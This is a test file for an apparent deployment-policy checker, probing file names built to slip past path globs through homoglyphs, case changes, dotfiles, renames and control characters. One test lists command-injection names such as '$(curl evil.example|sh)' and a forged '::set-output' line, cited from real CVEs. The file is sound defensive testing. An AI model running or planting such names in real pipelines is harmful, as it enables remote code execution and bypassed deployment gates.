import { expect, it } from 'vitest';
import { RP_CHANGE, type ScenarioOptions } from '../acceptance/scenario.ts';
import { judge, shown } from './support.ts';

/* Paths that slip past globs. */

const QUEUE = 'deploy/template-manager/queue.yml';
const CONTENT = 'workers: 4\n'.repeat(20);
const UNDECLARED = { verdict: 'deny', gate: 'closed', codes: ['approval.missing', 'reach.undeclared'] };
const all = (...paths: readonly string[]) => ({
  ...RP_CHANGE,
  ...Object.fromEntries(paths.map((path) => [path, 'x\n'])),
});
const moved = (from: string, to: string): ScenarioOptions => ({
  changes: { [from]: null, [to]: CONTENT },
  world: { files: { [from]: CONTENT } },
});

// Case: A path in other case, in other letters or with other separators: on the machine that deploys it is the guarded script or the other cohort's file, for the globs it is not.
// Origin: CVE-2014-9390 (git: `.GIT` on file systems without case); CVE-2021-21300 (the same with symbolic links).
it("case: what no glob claims is shared: it reaches everybody, and is never nobody's", async () => {
  const paths = [
    ['Docs/guide.txt', 'DOCS/x', 'deploy/x.MD', 'deploy/Resource-Publisher/x', 'scripts/Deploy/run.sh'],
    ['.GitHub/workflows/x.yml', 'docs\\x', 'deploy/resource-publisher\\x', 'deploy/resource-publ\u0456sher/x'],
    ['do\u0441s/x', 'deploy/resource-publisher\u200B/x', 'docs /x', '.github', 'deploy/releases/x.YML'],
  ].flat();
  const run = await judge({ changes: all(...paths) });
  expect(run).toMatchObject(UNDECLARED);
  const [{ evidence }] = run.judgement.findings;
  for (const path of paths) expect(JSON.stringify(evidence)).toContain(JSON.stringify(path).slice(1, -1));
});

// Control characters: File names that hold line ends, nulls, quotes or shell syntax: they are to slip past a glob, to end a line of the report, or to run as a command of a later step.
// Origin: CVE-2023-51664 (tj-actions/changed-files: command injection by file names); CVE-2006-7243 (PHP: a null ends a path).
it('control characters: they reach their cohort, and are told in one visible line each', async () => {
  const names = [
    ['x\n::set-output name=gate::open', 'x\r\n', '\u0000', 'x.md\u0000', '$(curl evil.example|sh)', 'x.md\n', 'x.md '],
    ['";curl evil.example;"', '`id`', '\u001B]0;owned\u0007', '-rf', '%0A::error::x'],
  ].flat();
  const run = await judge({ changes: all(...names.map((name) => `deploy/template-manager/${name}`)) });
  expect(run).toMatchObject(UNDECLARED);
  expect(run.judgement.scope.reach['template-manager']).toHaveLength(names.length);
  expect(shown(run)).toContain('[U+0000]');
});

it.each<[string, ScenarioOptions, object]>([
  [
    'control characters: in a guarded folder they are guarded',
    { changes: all('scripts/deploy/x\n.md', 'scripts/deploy/\u0000') },
    {
      codes: ['policy.changed'],
      judgement: { scope: { guarded: ['scripts/deploy/\u0000', 'scripts/deploy/x\n.md'] } },
    },
  ],
  // Dotfiles: A file whose name begins with a dot: many glob libraries pass over it, and so a cohort's settings change without reaching the cohort.
  // Origin: minimatch and picomatch, whose option `dot` is off by default.
  [
    'dotfiles: they reach the cohort that claims them',
    { changes: all('deploy/template-manager/.config/settings.json') },
    { ...UNDECLARED, judgement: { scope: { reach: { 'template-manager': [expect.any(String)] } } } },
  ],
  [
    'dotfiles: they are guarded where their folder is',
    { changes: all('scripts/deploy/.profile', '.github/.hidden') },
    { verdict: 'hold', codes: ['policy.changed'] },
  ],
  // Ignored rename: A release is carried past the ignored paths: a file of another cohort is moved into a folder that makes no release, or comes out of one.
  // Origin: GitHub Docs, "Workflow syntax": `paths-ignore`, by which a required check is skipped; CWE-636.
  [
    'ignored rename: with another cohort declared, the former name still reaches its own',
    moved(QUEUE, 'docs/queue.yml'),
    { verdict: 'deny', codes: expect.arrayContaining(['reach.undeclared']) },
  ],
  [
    'ignored rename: moved out of the folder it reaches where it lands',
    moved('docs/queue.yml', QUEUE),
    { verdict: 'deny', codes: expect.arrayContaining(['reach.undeclared']) },
  ],
  [
    'an honest one: odd names of the declared cohort, and what the policy ignores',
    {
      changes: {
        'deploy/resource-publisher/a b (1).yml': 'x\n',
        'deploy/resource-publisher/.env': 'x\n',
        'docs/.hidden': 'x\n',
        'deploy/x.md': 'x\n',
      },
    },
    { verdict: 'allow' },
  ],
  [
    'an honest one: moved within what makes no release',
    { body: '', ...moved('docs/a.yml', 'docs/b.yml') },
    { verdict: 'skip' },
  ],
])('%s', async (_, options, expected) => {
  expect(await judge(options)).toMatchObject(expected);
});

it('ignored rename: moved into the folder it has left the cohort that it was in', async () => {
  const run = await judge({ body: '', ...moved(QUEUE, 'docs/queue.yml') });
  expect(run.own.world.changedFiles(run.own.pull.number)).toMatchObject([{ path: 'docs/queue.yml', previous: QUEUE }]);
  expect(run).toMatchObject({ verdict: 'deny', gate: 'closed', codes: ['declaration.missing'] });
});
